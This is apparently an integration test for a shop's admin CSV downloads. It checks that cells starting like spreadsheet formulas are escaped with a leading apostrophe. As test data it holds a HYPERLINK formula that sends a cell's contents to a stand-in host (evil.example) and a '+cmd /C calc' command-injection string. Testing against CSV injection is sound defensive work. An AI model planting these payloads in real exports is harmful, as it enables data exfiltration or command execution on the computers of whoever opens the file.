// Every CSV download is safe to open in Excel: a cell that a spreadsheet would run as a formula
// (=, +, -, @, tab, carriage return first) is written with a leading ', by the one CSV writer
// every export goes through (src/server/services/infra/csv-download.ts).
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { callerFor, createTestUser } from '../support/context';
import { useTestApp } from '../support/test-app';
import { createTestProduct } from './orders-fixtures';

const world = useTestApp({ http: true });

/** Every CSV download: the route that sends it, where it is served, its separator. */
const EXPORTS = [
  { route: 'src/server/http/catalog-csv.ts', url: '/api/admin/catalog.csv', delimiter: ';' },
  { route: 'src/server/http/newsletter-csv.ts', url: '/api/admin/newsletter.csv', delimiter: ',' },
  { route: 'src/server/http/orders-csv.ts', url: '/api/admin/orders.csv', delimiter: ';' },
  { route: 'src/server/http/account-routes.ts', url: '/api/admin/customers.csv', delimiter: ';' },
  {
    route: 'src/server/http/collections-routes.ts',
    url: '/api/admin/receivables.csv',
    delimiter: ';',
    // Only companies that owe appear there: its formulas are checked with the debts it needs.
    checkedIn: 'tests/integration/receivables.test.ts',
  },
  {
    route: 'src/server/http/cfe-csv.ts',
    url: '/api/admin/comprobantes.csv',
    delimiter: ';',
    // Only issued documents appear there: its formulas are checked with the documents it needs.
    checkedIn: 'tests/integration/cfe-list.test.ts',
  },
] as const;

const THE_WRITER = 'src/server/services/infra/csv-download.ts';
const THE_REPLY = 'src/server/http/csv-reply.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&E3,"Ver pedido")';
const COMMAND = "+cmd' /C calc'!A0";

function sourceFiles(directory: string): string[] {
  return readdirSync(directory, { withFileTypes: true }).flatMap((entry) => {
    const file = path.join(directory, entry.name);
    if (entry.isDirectory()) return sourceFiles(file);
    return /\.tsx?$/.test(entry.name) ? [file] : [];
  });
}

const filesWhere = (test: (text: string) => boolean) =>
  sourceFiles('src/server')
    .filter((file) => test(readFileSync(file, 'utf8')))
    .sort();

async function download(url: string, delimiter: string) {
  const response = await world.app.inject({ url, headers: { cookie: world.adminCookie } });
  expect(response.statusCode).toBe(200);
  return parse<Record<string, string>>(response.body, { bom: true, delimiter, columns: true });
}

beforeAll(async () => {
  const customer = await createTestUser(world.deps, { fullName: HYPERLINK });
  const [variant] = await createTestProduct(
    world.db,
    [{ stock: 5, price: '10.00', colorName: '-Negro' }],
    '@SUMA(A1:A9)',
  );
  await callerFor(world.deps, customer).orders.requestQuote({
    email: customer.user.email,
    companyName: COMMAND,
    items: [{ variantId: variant!.id, quantity: 1 }],
    idempotencyKey: 'csv-formulas-order',
  });
  await callerFor(world.deps).contact.subscribe({ email: '+promo@empresa.uy' });
  await callerFor(world.deps).contact.subscribe({ email: '-baja@empresa.uy' });
});

describe('CSV downloads neutralise formulas', () => {
  it('sends CSV only through the shared writer, and every download is checked below', () => {
    // Only the writer makes CSV, only the download reply says text/csv, and that reply takes
    // nothing but the writer's files (its type says so): no export can skip the escaping.
    expect(filesWhere((text) => /from ['"]csv-stringify/.test(text))).toEqual([THE_WRITER]);
    expect(filesWhere((text) => text.includes('text/csv'))).toEqual([THE_REPLY]);
    expect(filesWhere((text) => text.includes('sendCsvDownload('))).toEqual(
      [THE_REPLY, ...EXPORTS.map((entry) => entry.route)].sort(),
    );
  });

  it('orders: a customer or company that starts like a formula is text', async () => {
    const rows = await download('/api/admin/orders.csv', ';');
    const row = rows.find((candidate) => candidate.empresa === `'${COMMAND}`);
    expect(row).toMatchObject({ cliente: `'${HYPERLINK}`, empresa: `'${COMMAND}` });
  });

  it('customers: a customer whose name starts like a formula is text', async () => {
    const rows = await download('/api/admin/customers.csv', ';');
    expect(rows.find((row) => row.cliente === `'${HYPERLINK}`)).toMatchObject({
      cotizaciones: '1',
    });
  });

  it('catalogue: a product or colour that starts like a formula is text', async () => {
    const rows = await download('/api/admin/catalog.csv', ';');
    expect(rows.find((row) => row.nombre === "'@SUMA(A1:A9)")).toMatchObject({
      color: "'-Negro",
      precio: '10.00',
    });
  });

  it('newsletter: an address that starts with + or - is text', async () => {
    const rows = await download('/api/admin/newsletter.csv', ',');
    const emails = rows.map((row) => row.email);
    expect(emails).toEqual(expect.arrayContaining(["'+promo@empresa.uy", "'-baja@empresa.uy"]));
  });

  it('leaves the other cells as they are', async () => {
    for (const { url, delimiter } of EXPORTS.filter((entry) => !('checkedIn' in entry))) {
      const rows = await download(url, delimiter);
      expect(rows.length, url).toBeGreaterThan(0);
      for (const row of rows) {
        for (const cell of Object.values(row)) {
          // A ' only ever stands before what a spreadsheet would run.
          if (cell.startsWith("'")) expect(cell, url).toMatch(/^'[=+\-@\t\r]/);
        }
      }
    }
  });
});
